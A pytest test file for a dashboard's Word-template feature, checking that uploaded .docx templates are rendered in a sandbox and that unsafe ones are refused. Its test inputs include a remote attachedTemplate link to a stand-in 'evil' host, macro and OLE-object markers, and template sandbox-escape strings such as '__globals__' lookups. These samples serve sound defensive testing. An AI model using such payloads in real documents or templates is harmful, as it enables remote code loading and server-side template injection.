"""The office's own Word template: filled with what is read, in a sandbox; whatever else it would do is refused."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from docx.enum.shape import WD_INLINE_SHAPE
from docx.opc.constants import RELATIONSHIP_TYPE
from sqlalchemy import Engine

from dashboard import create_site
from dashboard.exports.blocks import Document, Masthead, Paragraph, Source
from dashboard.exports.office import template
from tests import demonstration_store
from tests.dashboard.conftest import Reader, sign_in
from tests.dashboard.exports.test_kept import every_block
from tests.demonstration_store import SCHEME

HEAD = Masthead("监测简报", "第11期", "", "苏社〔2026〕1号", "", "周某", "", "省厅", None)
SOURCE = Source("江苏省", "2026年10月已定稿", "版本7", "企业职工养老", "", "王某")


def document() -> Document:
    blocks = [Paragraph(["<b>&开头</b>"]), *every_block()]
    return Document("briefing", "10月运行情况", blocks, SOURCE, "zh", HEAD, "送审稿")


def word(*lines: str) -> bytes:
    book = docx.Document()
    for line in lines:
        book.add_paragraph(line)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def changed(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """A file with one of its parts changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w") as after:
        for part in before.namelist():
            after.writestr(part, change(before.read(part)) if part == name else before.read(part))
    return out.getvalue()


def test_the_sample_is_filled_with_text_tables_and_charts() -> None:
    made = docx.Document(io.BytesIO(template.template_bytes(document(), template.sample())))
    said = "\n".join(paragraph.text for paragraph in made.paragraphs)
    for text in ("监测简报", "第11期", "苏社〔2026〕1号", "送审稿", "10月运行情况", "一、收支", "<b>&开头</b>"):
        assert text in said, text
    assert "截至10月末结余" in said and "5,386.20" in said and "{" not in said
    cells = [[cell.text for cell in row.cells] for table in made.tables for row in table.rows]
    assert ["地区", "收入", "同比", "日期", "件数"] in cells
    assert any(row[:2] == ["甲市", "1.23"] for row in cells)
    (chart,) = made.inline_shapes
    assert chart.type == WD_INLINE_SHAPE.CHART
    (related,) = [one for one in made.part.rels.values() if one.reltype == RELATIONSHIP_TYPE.CHART]
    assert related.rId in chart._inline.xml and b"c:barChart" in related.target_part.blob
    (inside,) = related.target_part.rels.values()
    assert openpyxl.load_workbook(io.BytesIO(inside.target_part.blob)).active["A2"].value == "甲市"


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"", template.NoWordFile),
        (b"PK\x05\x06" + b"\0" * 18, template.NoWordFile),
        (b"x" * (template.LARGEST + 1), template.NoWordFile),
        (word("{{ nobody }} {{ title }}"), template.UnknownNames),
        (word("{% for x in sections %}"), template.WrongTemplate),
        (word("{{ title"), template.WrongTemplate),
        (changed(word("x"), "[Content_Types].xml", lambda xml: xml.replace(b"</Types>", b"<!--vbaProject--></Types>")), template.ForeignParts),
        (
            changed(
                word("x"), "word/_rels/document.xml.rels",
                lambda xml: xml.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://evil/" TargetMode="External"/></Relationships>'),
            ),
            template.ForeignParts,
        ),
        (changed(word("x"), "word/_rels/document.xml.rels", lambda xml: xml[:-9]), template.NoWordFile),
    ],
)  # fmt: skip
def test_what_is_no_template_is_refused_before_it_is_kept(content: bytes, problem: type[Exception]) -> None:
    with pytest.raises(problem):
        template.examine(content)


@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("quote", ['"', "'"])
@pytest.mark.parametrize(("kind", "mode"), [("oleObject", "Internal"), ("image", "External"), ("ole&#79;bject", "x")])
def test_a_way_out_is_seen_however_it_is_written(coding: str, quote: str, kind: str, mode: str) -> None:
    way = f'<Relationship Id="rId99" Type="http://x/{kind}" TargetMode = "{mode}" Target="a"/></Relationships>'

    def written(xml: bytes) -> bytes:
        text = xml.decode().partition("?>")[2].replace("</Relationships>", way.replace('"', quote))
        return f'<?xml version="1.0" encoding="{coding}"?>{text}'.encode(coding)

    with pytest.raises(template.ForeignParts):
        template.examine(changed(word("x"), "word/_rels/document.xml.rels", written))


def test_a_link_to_click_may_stand_in_a_template() -> None:
    link = b'<Relationship Id="rId99" Type="http://x/hyperlink" Target="https://office/" TargetMode="External"/></Relationships>'
    content = changed(
        word("{{ title }}"), "word/_rels/document.xml.rels", lambda xml: xml.replace(b"</Relationships>", link)
    )
    template.examine(content)


@pytest.mark.parametrize(
    "line",
    [
        "{{ title.__class__.__mro__ }}",
        "{{ sections.__init__.__globals__ }}",
        "{% for n in range(99999999) %}x{% endfor %}",
        "{{ sections[0].nothing }}",
    ],
)
def test_a_template_does_in_the_sandbox_only_what_templates_do(line: str) -> None:
    with pytest.raises((template.WrongTemplate, OverflowError)):
        template.template_bytes(document(), word(line))


@pytest.fixture
def people(own_engine: Engine, tmp_path: Path) -> Iterator[Callable[[str], Reader]]:
    server = create_site(demonstration_store.site_on(own_engine, tmp_path)).server
    yield lambda login: sign_in(server, login)


def test_only_the_system_administrator_keeps_templates(people: Callable[[str], Reader]) -> None:
    def keep(login: str, content: bytes) -> tuple[int, Any]:
        answer = people(login).client.post(
            f"/act/data/template_keep?scheme={SCHEME}",
            data={"file": (io.BytesIO(content), "红头.docx")},
            headers={"Accept": "application/json"},
            content_type="multipart/form-data",
        )
        return answer.status_code, json.loads(answer.data)

    administrator = people("p-system_admin")
    assert keep("p-monitor", template.sample())[0] == 403
    status, said = keep("p-system_admin", word("{{ nobody }}"))
    assert status == 422 and "nobody" in said["problem"]
    sample = administrator.client.get("/template/briefing.docx")
    assert keep("p-system_admin", sample.data)[0] == 200
    tab = f"/data?scheme={SCHEME}&tab=template"
    assert "在用：红头.docx" in administrator.text(tab)
    writer = people("p-writer")
    opened = writer.client.post(
        f"/act/briefings/briefing_open?scheme={SCHEME}", data={"form": "briefing", "month": "2026-10"}
    )
    assert opened.status_code == 303
    assert "本单位模板" in writer.text(f"/briefings/1?scheme={SCHEME}")
    ended = administrator.client.post(f"/act/data/template_end?scheme={SCHEME}")
    assert ended.status_code == 303
    assert "本单位模板" not in writer.text(f"/briefings/1?scheme={SCHEME}")
    refused = writer.client.post(f"/export-job/briefings/1/issue?scheme={SCHEME}", data={"kind": "docx-template"})
    assert refused.status_code == 404
